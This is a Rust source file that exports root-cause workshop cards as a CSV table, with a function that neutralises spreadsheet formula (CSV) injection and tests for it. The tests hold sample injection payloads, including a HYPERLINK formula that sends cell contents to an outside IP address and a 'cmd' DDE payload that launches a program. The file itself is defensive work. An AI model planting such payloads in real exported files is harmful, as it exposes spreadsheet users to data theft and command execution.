//! The cards as a table for a spreadsheet: a row a card, in the order of the tree. Built of the export; what is not in it is not here.
//!
//! UTF-8 with a mark at its beginning, by which Excel knows it, commas, CRLF. What somebody wrote is text there and nothing else: a
//! cell that a spreadsheet would calculate or send somewhere is put behind an apostrophe (OWASP, "CSV Injection").

use shared::docs::workshop::Language;

use super::cards::CardOut;
use super::{BoardOut, Export};

/// By which a spreadsheet knows that this is UTF-8.
const MARK: &str = "\u{feff}";

const JA: [&str; 9] =
    ["班", "課題", "なぜの深さ", "なぜ？", "その結果", "しるし", "根本原因", "書いた人", "書いた時刻（UTC）"];
const EN: [&str; 9] =
    ["Group", "Theme", "Level", "Cause", "Effect", "Mark", "Root cause", "Written by", "Written at (UTC)"];

impl Export {
    /// The table, titled in the language of the workshop.
    ///
    /// # Errors
    /// Never, as far as is known: it is written into memory.
    pub fn table(&self) -> Result<String, csv::Error> {
        let language = self.workshop.language;
        let mut rows = Vec::new();
        for board in &self.boards {
            for card in &board.cards {
                below(&mut rows, language, board, card, (1, &board.theme));
            }
        }
        let mut to = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(MARK.as_bytes().to_vec());
        to.write_record(match language {
            Language::Ja => JA,
            Language::En => EN,
        })?;
        for row in rows {
            to.write_record(row.iter().map(|cell| text(cell)))?;
        }
        let bytes = to.into_inner().map_err(|why| csv::Error::from(why.into_error()))?;
        Ok(String::from_utf8_lossy(&bytes).into_owned())
    }
}

/// A card and its causes; as deep as a board may be, which is not deep for a stack.
fn below(
    rows: &mut Vec<[String; 9]>,
    language: Language,
    board: &BoardOut,
    card: &CardOut,
    (level, effect): (u32, &str),
) {
    let group = if board.name.is_empty() { board.group.0.to_string() } else { board.name.clone() };
    let star = if card.star { "★" } else { "" };
    rows.push([
        group,
        board.theme.clone(),
        level.to_string(),
        card.text.clone(),
        effect.to_owned(),
        mark(language, card.mark).to_owned(),
        star.to_owned(),
        card.by.name.clone().unwrap_or_default(),
        card.at.clone(),
    ]);
    for cause in &card.because {
        below(rows, language, board, cause, (level + 1, &card.text));
    }
}

fn mark(language: Language, mark: Option<&'static str>) -> &'static str {
    match (mark, language) {
        (Some("fact"), Language::Ja) => "事実",
        (Some("guess"), Language::Ja) => "推測",
        (Some("to_check"), Language::Ja) => "要確認",
        (Some("to_check"), Language::En) => "to check",
        (mark, _) => mark.unwrap_or_default(),
    }
}

/// A cell that is text to every spreadsheet, also where it looks past blanks and what is not seen, takes wide signs for narrow ones, or
/// begins another cell at a semicolon, as it does in many countries, with or without quotation marks of its own.
fn text(cell: &str) -> String {
    let unseen = |c: char| {
        c.is_whitespace() || c.is_control() || matches!(c, '"' | '\u{200b}'..='\u{200f}' | '\u{2060}' | '\u{feff}')
    };
    let calculates = |c: char| matches!(c, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '−');
    let part = |part: &str| match part.trim_start_matches(unseen).starts_with(calculates) {
        true => format!("'{part}"),
        false => part.to_owned(),
    };
    cell.split_inclusive([';', '\t', '\r', '\n']).map(part).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_was_written_is_calculated() {
        for bad in [
            "=HYPERLINK(\"http://198.51.100.7/?\"&A1,\"見る\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1)",
            " =1",
            "\u{200b}=1",
            "\u{3000}＝1",
            "－1",
            "\"=1",
            "\" =1",
        ] {
            assert_eq!(text(bad), format!("'{bad}"), "{bad:?}");
        }
        for (bad, safe) in [
            ("\t=1", "\t'=1"),
            ("\r=1", "\r'=1"),
            ("a;=1;b", "a;'=1;b"),
            ("a\t\u{3000}=1", "a\t'\u{3000}=1"),
            ("b;\"=1+1;", "b;'\"=1+1;"),
            ("b;\" \"=1", "b;'\" \"=1"),
        ] {
            assert_eq!(text(bad), safe);
        }
        for fair in ["\"重い\"と言われる", "役員の負担が重い", "3-4人", "a=b", "", "'=1", "なぜ？"] {
            assert_eq!(text(fair), fair);
        }
    }
}
